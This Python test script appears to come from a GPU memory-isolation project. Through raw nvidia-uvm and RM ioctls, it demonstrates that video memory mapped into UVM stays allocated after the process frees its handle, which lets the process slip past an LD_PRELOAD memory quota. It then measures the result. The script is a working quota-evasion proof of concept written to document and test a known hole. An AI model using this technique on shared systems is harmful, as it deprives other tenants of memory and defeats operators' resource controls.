"""The nvidia-uvm hole, through raw ioctls: video memory that UVM keeps alive after the
process has freed its RM handle (docs/isolation.md, "Memory kept alive by nvidia-uvm").

  uvm_hole.py CHUNK_MIB N [--unmap]

In one process:
1. a CUDA context (libcuda through ctypes), so that libcuda has opened /dev/nvidia-uvm,
   done UVM_INITIALIZE, UVM_REGISTER_GPU and UVM_REGISTER_GPU_VASPACE; the nvidia-uvm file
   used is libcuda's own, found in /proc/self/fd (libcuda opens it twice: the second is
   UVM_MM_INITIALIZE'd and answers VA-space calls with NV_ERR_ILLEGAL_ACTION, so the fd
   kept is one where UVM_PAGEABLE_MEM_ACCESS answers NV_OK and the first map works);
2. the process's own RM client on its own /dev/nvidiactl fd, with a device and subdevice,
   set up as libcuda does (tests/gpu/rmclient.py);
3. N times: RM_ALLOC of NV01_MEMORY_LOCAL_USER (CHUNK_MIB, the traced parameter block of
   race_alloc.py), a CPU VA reservation (mmap PROT_NONE, 2 MiB aligned),
   UVM_CREATE_EXTERNAL_RANGE, UVM_MAP_EXTERNAL_ALLOCATION of the memory (UVM duplicates it
   into its own RM client), then RM_FREE of the process's handle. After each step: the
   statuses, NVML's used memory of the GPU (under the library: the instance's view, its
   charge), and this process's entry in nvmlDeviceGetComputeRunningProcesses (RM's
   per-process count, what `gpuctl guard` reads); before, after the loop and after the
   release also nvidia-smi's memory.used from a child without LD_PRELOAD (smi_used_mib:
   the device as it is);
4. while the chunks are held: a cuMemAlloc of 2 GiB (env UVM_HOLE_CUDA_AFTER_MIB, 0: none),
   what the limit still grants, freed again;
5. release: UVM_FREE of each range (with --unmap, UVM_UNMAP_EXTERNAL first), NVML again.

Every ioctl goes through libc's ioctl(), so LD_PRELOAD=preload/libgpuslice.so sees them
(the library that does not decode nvidia-uvm calls charges the RM_ALLOC and uncharges the
RM_FREE; the memory stays). Stops at the first failure and records it. Prints one JSON
object. Without a GPU it prints {"error": ...} and exits 2.
"""

from __future__ import annotations

import ctypes
import json
import os
import struct
import subprocess
import sys
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(HERE.parents[1] / "pyctl"))
from gpuslice import abi  # noqa: E402

MIB = 1 << 20
ALIGN = 2 * MIB
DEV, SUB = 0xB0000001, 0xB0000002  # as rmclient.py
MEM_BASE = 0xB2000000
CUDA_AFTER_MIB = int(os.environ.get("UVM_HOLE_CUDA_AFTER_MIB", "2048"))

# nvidia-uvm (kernel-open/nvidia-uvm/uvm_ioctl.h; kmod/core/nvrm_abi.h): the request is
# the bare command number, the ioctl answers 0 and the status is the struct's rmStatus
UVM_MAP_EXTERNAL_ALLOCATION = 33
UVM_FREE = 34
UVM_PAGEABLE_MEM_ACCESS = 39
UVM_UNMAP_EXTERNAL = 66
UVM_CREATE_EXTERNAL_RANGE = 73
RANGE = struct.Struct("<QQI4x")  # uvm_range_params: base, length, rmStatus (24)
UNMAP = struct.Struct("<QQ16sI4x")  # uvm_unmap_external_params: base, length, gpuUuid, rmStatus (40)
MAP_SIZE = 9264  # uvm_map_external_allocation_params
MAP_HEAD = struct.Struct("<QQQ")  # base, length, offset
MAP_ATTR_OFF, MAP_ATTR_SIZE = 24, 36  # perGpuAttributes[256]: gpuUuid[16], 5 x u32 (0: defaults)
MAP_TAIL = struct.Struct("<QiIII")  # gpuAttributesCount @9240, rmCtrlFd, hClient, hMemory, rmStatus @9260
MAP_TAIL_OFF = 9240
assert MAP_TAIL_OFF + MAP_TAIL.size == MAP_SIZE and MAP_ATTR_OFF + 256 * MAP_ATTR_SIZE == MAP_TAIL_OFF

# NV_MEMORY_ALLOCATION_PARAMS of a 2 MiB cuMemAlloc (cuda-driver-alloc trace, as
# race_alloc.py): owner at 0 (set to the client), flags 0x1c101 at 8, attr 0x18000000 at
# 24, size at 64, alignment 2 MiB at 72
ALLOC_TEMPLATE = bytes.fromhex(
    "000000000000000001c101000000000000000000000000000000001800000000"
    "0000000000000000000000000000000000000000000000000000000000000000"
    "0000200000000000000020000000000000000000000000000000000000000000"
    "0000000000000000000000000000000000000000000000000000000000000000"
)

libc = ctypes.CDLL(None, use_errno=True)
libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_void_p]
libc.ioctl.restype = ctypes.c_int
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mmap.restype = ctypes.c_void_p
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
PROT_NONE, MAP_PRIVATE, MAP_ANONYMOUS, MAP_NORESERVE = 0, 0x02, 0x20, 0x4000
MAP_FAILED = ctypes.c_void_p(-1).value


class NoGpu(Exception):
    pass


def sname(st: int | None) -> str | None:
    if st is None:
        return None
    return f"0x{st:x} {abi.STATUS_NAMES.get(st, '')}".rstrip()


def ioctl(fd: int, req: int, buf) -> tuple[int, int]:
    r = libc.ioctl(fd, req, ctypes.addressof(buf))
    return r, ctypes.get_errno() if r < 0 else 0


def result(r: int, e: int, st: int | None) -> dict:
    return {"ret": r, "errno": e, "status": sname(st), "ok": r == 0 and e == 0 and st == 0}


# ---- NVML ---------------------------------------------------------------------------

class Nvml:
    def __init__(self, uuid_str: str | None) -> None:
        self.h = None
        self.error = None
        try:
            import pynvml

            self.nv = pynvml
            pynvml.nvmlInit()
            if uuid_str:
                try:
                    self.h = pynvml.nvmlDeviceGetHandleByUUID(uuid_str)
                except pynvml.NVMLError:
                    self.h = None
            if self.h is None:
                self.h = pynvml.nvmlDeviceGetHandleByIndex(0)
        except Exception as e:  # noqa: BLE001
            self.error = f"{type(e).__name__}: {e}"

    def uuid(self) -> str | None:
        if self.h is None:
            return None
        u = self.nv.nvmlDeviceGetUUID(self.h)
        return u.decode() if isinstance(u, bytes) else u

    def sample(self) -> dict:
        if self.h is None:
            return {"used_mib": None, "proc_mib": None}
        used = self.nv.nvmlDeviceGetMemoryInfo(self.h).used
        procs = {}
        try:
            for p in self.nv.nvmlDeviceGetComputeRunningProcesses(self.h):
                procs[p.pid] = p.usedGpuMemory
        except self.nv.NVMLError as e:
            return {"used_mib": used / MIB, "proc_mib": None, "proc_error": str(e)}
        me = procs.get(os.getpid())
        return {"used_mib": used / MIB, "proc_mib": None if me is None else me / MIB,
                "procs": len(procs)}


def smi_used_mib(uuid_str: str | None) -> float | None:
    """The GPU's used memory as nvidia-smi sees it from a child without LD_PRELOAD: under
    the library, this process's NVML answers with the instance's view (its charge), not
    the device's."""
    env = {k: v for k, v in os.environ.items() if k != "LD_PRELOAD"}
    cmd = ["nvidia-smi", "--query-gpu=memory.used", "--format=csv,noheader,nounits"]
    if uuid_str:
        cmd += ["-i", uuid_str]
    try:
        r = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=30)
        return float(r.stdout.split()[0])
    except (OSError, ValueError, IndexError, subprocess.SubprocessError):
        return None


# ---- CUDA ---------------------------------------------------------------------------

def cuda_init() -> tuple[ctypes.CDLL, bytes, str]:
    """Primary context on device 0; returns libcuda, the GPU uuid's 16 bytes and its
    'GPU-...' string."""
    if not os.path.exists("/dev/nvidiactl"):
        raise NoGpu("no GPU: /dev/nvidiactl does not exist")
    try:
        cu = ctypes.CDLL("libcuda.so.1")
    except OSError as e:
        raise NoGpu(f"no GPU: libcuda.so.1 cannot be loaded ({e})") from None

    def call(name: str, *args) -> None:
        rc = getattr(cu, name)(*args)
        if rc:
            s = ctypes.c_char_p()
            cu.cuGetErrorName(rc, ctypes.byref(s))
            raise NoGpu(f"no usable GPU: {name}: {(s.value or b'?').decode()} ({rc})")

    call("cuInit", 0)
    dev = ctypes.c_int()
    call("cuDeviceGet", ctypes.byref(dev), 0)
    ctx = ctypes.c_void_p()
    call("cuDevicePrimaryCtxRetain", ctypes.byref(ctx), dev)
    call("cuCtxSetCurrent", ctx)
    # a first allocation, so the context is fully up (as CUDA programs have it)
    p = ctypes.c_ulonglong()
    call("cuMemAlloc_v2", ctypes.byref(p), ctypes.c_size_t(MIB))
    call("cuMemFree_v2", p)
    raw = (ctypes.c_ubyte * 16)()
    call("cuDeviceGetUuid", raw, dev)
    u = bytes(raw)
    h = u.hex()
    return cu, u, f"GPU-{h[0:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}"


def uvm_fds() -> list[dict]:
    """Every fd of this process on nvidia-uvm, and what UVM_PAGEABLE_MEM_ACCESS answers."""
    out = []
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        if not target.endswith("nvidia-uvm"):
            continue
        fd = int(name)
        buf = ctypes.create_string_buffer(8)
        r, e = ioctl(fd, UVM_PAGEABLE_MEM_ACCESS, buf)
        pageable, st = struct.unpack_from("<B3xI", buf.raw)
        out.append({"fd": fd, "path": target, **result(r, e, st), "pageable_mem_access": pageable})
    return out


# ---- the process's own RM client ------------------------------------------------------

class Rm:
    def __init__(self) -> None:
        self.steps: dict = {}
        self.ctl = os.open("/dev/nvidiactl", os.O_RDWR | os.O_CLOEXEC)
        self.gpu = os.open("/dev/nvidia0", os.O_RDWR | os.O_CLOEXEC)
        r, e = ioctl(self.gpu, abi.IOCTL_REGISTER_FD, ctypes.create_string_buffer(struct.pack("<i", self.ctl)))
        self.steps["register_fd"] = result(r, e, 0)
        r, e, self.client, st = self.alloc(0, 0, 0, abi.NV01_ROOT_CLIENT)
        self.steps["client"] = {**result(r, e, st), "handle": hex(self.client)}
        self._need("client")
        # as libcuda does (traces): probed GPU ids (0x214), attach the first (0x215)
        probed = ctypes.create_string_buffer(384)
        self.steps["probed"] = result(*self.control(self.client, 0x214, probed))
        gpu_id = struct.unpack_from("<I", probed, 0)[0]
        att = ctypes.create_string_buffer(struct.pack("<II", gpu_id, 0xFFFFFFFF) + bytes(124), 132)
        self.steps["attach"] = {**result(*self.control(self.client, 0x215, att)), "gpu_id": hex(gpu_id)}
        devp = ctypes.create_string_buffer(struct.pack("<II", 0, self.client) + bytes(48))
        r, e, _, st = self.alloc(self.client, self.client, DEV, abi.NV01_DEVICE_0, devp)
        self.steps["device"] = result(r, e, st)
        self._need("device")
        r, e, _, st = self.alloc(self.client, DEV, SUB, abi.NV20_SUBDEVICE_0, ctypes.create_string_buffer(16))
        self.steps["subdevice"] = result(r, e, st)
        self._need("subdevice")

    def _need(self, what: str) -> None:
        if not self.steps[what]["ok"]:
            raise RuntimeError(f"RM setup: {what}: {self.steps[what]}")

    def alloc(self, root, parent, new, klass, params=None) -> tuple[int, int, int, int]:
        arg = ctypes.create_string_buffer(abi.NVOS64.pack(root, parent, new, klass,
                                                          ctypes.addressof(params) if params is not None else 0,
                                                          0, 0, 0, 0))
        r, e = ioctl(self.ctl, abi.IOCTL_RM_ALLOC, arg)
        f = abi.NVOS64.unpack(arg.raw[: abi.NVOS64.size])
        return r, e, f[2], f[8]  # hObjectNew, status (offset 40)

    def control(self, obj, cmd, params) -> tuple[int, int, int]:
        arg = ctypes.create_string_buffer(abi.NVOS54.pack(self.client, obj, cmd, 0, ctypes.addressof(params),
                                                          len(params), 0))
        r, e = ioctl(self.ctl, abi.IOCTL_RM_CONTROL, arg)
        return r, e, abi.NVOS54.unpack(arg.raw[: abi.NVOS54.size])[6]

    def alloc_vidmem(self, handle: int, size: int) -> dict:
        p = ctypes.create_string_buffer(ALLOC_TEMPLATE, 128)
        struct.pack_into("<I", p, 0, self.client)
        struct.pack_into("<Q", p, 64, size)
        r, e, _, st = self.alloc(self.client, DEV, handle, abi.NV01_MEMORY_LOCAL_USER, p)
        return {**result(r, e, st), "handle": hex(handle), "size_back": struct.unpack_from("<Q", p, 64)[0]}

    def free(self, parent: int, handle: int) -> dict:
        arg = ctypes.create_string_buffer(abi.NVOS00.pack(self.client, parent, handle, 0))
        r, e = ioctl(self.ctl, abi.IOCTL_RM_FREE, arg)
        return result(r, e, abi.NVOS00.unpack(arg.raw[: abi.NVOS00.size])[3])

    def close(self) -> None:
        self.free(self.client, self.client)
        os.close(self.gpu)
        os.close(self.ctl)


# ---- UVM ----------------------------------------------------------------------------

def cbuf(data: bytes):
    """A ctypes buffer of exactly len(data) bytes (create_string_buffer(data) adds a NUL)."""
    return ctypes.create_string_buffer(data, len(data))


def uvm_range(fd: int, cmd: int, base: int, length: int) -> dict:
    buf = cbuf(RANGE.pack(base, length, 0))
    r, e = ioctl(fd, cmd, buf)
    return result(r, e, RANGE.unpack_from(buf.raw, 0)[2])


def uvm_map(fd: int, base: int, length: int, uuid: bytes, ctl: int, client: int, mem: int) -> dict:
    buf = ctypes.create_string_buffer(MAP_SIZE)
    MAP_HEAD.pack_into(buf, 0, base, length, 0)
    buf[MAP_ATTR_OFF:MAP_ATTR_OFF + 16] = uuid  # mapping/caching/format/elementBits/compression 0
    MAP_TAIL.pack_into(buf, MAP_TAIL_OFF, 1, ctl, client, mem, 0)
    r, e = ioctl(fd, UVM_MAP_EXTERNAL_ALLOCATION, buf)
    return result(r, e, MAP_TAIL.unpack_from(buf, MAP_TAIL_OFF)[4])


def uvm_unmap(fd: int, base: int, length: int, uuid: bytes) -> dict:
    buf = cbuf(UNMAP.pack(base, length, uuid, 0))
    r, e = ioctl(fd, UVM_UNMAP_EXTERNAL, buf)
    return result(r, e, UNMAP.unpack_from(buf.raw, 0)[3])


def reserve_va(size: int) -> tuple[int, int, int]:
    """A PROT_NONE reservation of size bytes at an ALIGN boundary: (base, map start, map len)."""
    span = size + ALIGN
    p = libc.mmap(None, span, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0)
    if p is None or p == MAP_FAILED:
        raise OSError(ctypes.get_errno(), "mmap PROT_NONE failed")
    base = (p + ALIGN - 1) & ~(ALIGN - 1)
    return base, p, span


# ---- the attack ---------------------------------------------------------------------

def main() -> int:
    out: dict = {}
    try:
        return run(out)
    except Exception as e:  # noqa: BLE001  (a bug or a surprise: keep what was measured)
        import traceback

        traceback.print_exc()
        out["first_error"] = out.get("first_error") or f"exception: {type(e).__name__}: {e}"
        out["exception"] = f"{type(e).__name__}: {e}"
        print(json.dumps(out, default=str), flush=True)
        return 1


def run(out: dict) -> int:
    args = [a for a in sys.argv[1:] if not a.startswith("--")]
    unmap = "--unmap" in sys.argv[1:]
    if len(args) != 2:
        print("usage: uvm_hole.py CHUNK_MIB N [--unmap]", file=sys.stderr)
        return 64
    chunk_mib, n = int(args[0]), int(args[1])
    size = chunk_mib * MIB
    out.update({"chunk_mib": chunk_mib, "n": n, "unmap": unmap,
                "limit": os.environ.get("GPUSLICE_MEM_LIMIT"),
                "preload": os.environ.get("LD_PRELOAD"), "pid": os.getpid(), "first_error": None})
    try:
        _cu, uuid, uuid_str = cuda_init()
    except NoGpu as e:
        out["error"] = str(e)
        print(f"uvm_hole: {e}", file=sys.stderr)
        print(json.dumps(out), flush=True)
        return 2
    nv = Nvml(uuid_str)
    out["gpu_uuid"] = uuid_str
    out["nvml_uuid"] = nv.uuid()
    out["nvml_error"] = nv.error
    if out["nvml_uuid"] and out["nvml_uuid"] != uuid_str:
        out["uuid_mismatch"] = True  # trust CUDA's bytes, say so
    fds = uvm_fds()
    out["uvm_fds"] = fds
    cands = [f["fd"] for f in fds if f["ok"]]
    if not cands:
        out["first_error"] = "no nvidia-uvm fd of this process answers UVM_PAGEABLE_MEM_ACCESS with NV_OK"
        print(json.dumps(out), flush=True)
        return 1
    out["after_ctx"] = nv.sample()
    try:
        rm = Rm()
    except (OSError, RuntimeError) as e:
        out["first_error"] = f"RM setup: {e}"
        print(json.dumps(out), flush=True)
        return 1
    out["rm_setup"] = rm.steps
    out["before"] = {**nv.sample(), "smi_used_mib": smi_used_mib(uuid_str)}
    uvm_fd = None
    steps: list[dict] = []
    out["steps"] = steps
    ranges: list[tuple[int, int, int]] = []  # base, map start, map len
    vas: list[tuple[int, int]] = []

    def step(i: int, name: str, res: dict, **extra) -> bool:
        steps.append({"i": i, "step": name, **res, **extra, **nv.sample(), "t": round(time.monotonic() - t0, 3)})
        if not res["ok"] and out["first_error"] is None:
            out["first_error"] = f"chunk {i} {name}: {res}"
        return res["ok"]

    t0 = time.monotonic()
    for i in range(n):
        h = MEM_BASE + i
        if not step(i, "rm_alloc", rm.alloc_vidmem(h, size)):
            break
        base, start, span = reserve_va(size)
        vas.append((start, span))
        # the first chunk picks the nvidia-uvm fd: the first where the map works
        tries = [uvm_fd] if uvm_fd is not None else cands
        mapped = False
        for fd in tries:
            ok = step(i, "uvm_create_external_range", uvm_range(fd, UVM_CREATE_EXTERNAL_RANGE, base, size),
                      fd=fd, base=hex(base))
            if ok:
                ok = step(i, "uvm_map_external_allocation",
                          uvm_map(fd, base, size, uuid, rm.ctl, rm.client, h), fd=fd)
                if ok:
                    uvm_fd, mapped = fd, True
                    ranges.append((fd, base, size))
                    break
                step(i, "uvm_free_after_failed_map", uvm_range(fd, UVM_FREE, base, size), fd=fd)
            if fd != tries[-1]:
                out["first_error"] = None  # another fd to try
        out["uvm_fd"] = uvm_fd
        if not mapped:
            step(i, "rm_free_unmapped", rm.free(DEV, h))
            break
        if not step(i, "rm_free", rm.free(DEV, h)):
            break
    out["mapped_after_free"] = len(ranges)
    out["held_mib"] = len(ranges) * chunk_mib
    out["after_loop"] = {**nv.sample(), "smi_used_mib": smi_used_mib(uuid_str)}
    # what the limit still grants while the chunks are held: a CUDA allocation of
    # CUDA_AFTER_MIB (cuMemAlloc), then freed
    if _cu is not None and CUDA_AFTER_MIB:
        p = ctypes.c_ulonglong()
        rc = _cu.cuMemAlloc_v2(ctypes.byref(p), ctypes.c_size_t(CUDA_AFTER_MIB * MIB))
        out["cuda_alloc_after_loop"] = {"mib": CUDA_AFTER_MIB, "rc": rc, "ok": rc == 0, **nv.sample()}
        if rc == 0:
            _cu.cuMemFree_v2(p)

    # release: the memory comes back only when UVM lets go of its duplicate
    release = []
    for fd, base, length in ranges:
        if unmap:
            r = uvm_unmap(fd, base, length, uuid)
            release.append({"step": "uvm_unmap_external", "base": hex(base), **r, **nv.sample()})
        r = uvm_range(fd, UVM_FREE, base, length)
        release.append({"step": "uvm_free", "base": hex(base), **r, **nv.sample()})
    out["release"] = release
    for start, span in vas:
        libc.munmap(start, span)
    out["after_release"] = {**nv.sample(), "smi_used_mib": smi_used_mib(uuid_str)}
    rm.close()
    time.sleep(0.2)
    out["after_rm_close"] = nv.sample()
    b, a = out["before"]["used_mib"], out["after_loop"]["used_mib"]
    if b is not None and a is not None:
        out["used_delta_after_loop_mib"] = a - b
        out["used_delta_after_release_mib"] = out["after_release"]["used_mib"] - b
    out["steps"] = out.pop("steps")  # last in the object: the long part
    print(json.dumps(out), flush=True)
    return 0 if out["first_error"] is None else 1


if __name__ == "__main__":
    sys.exit(main())
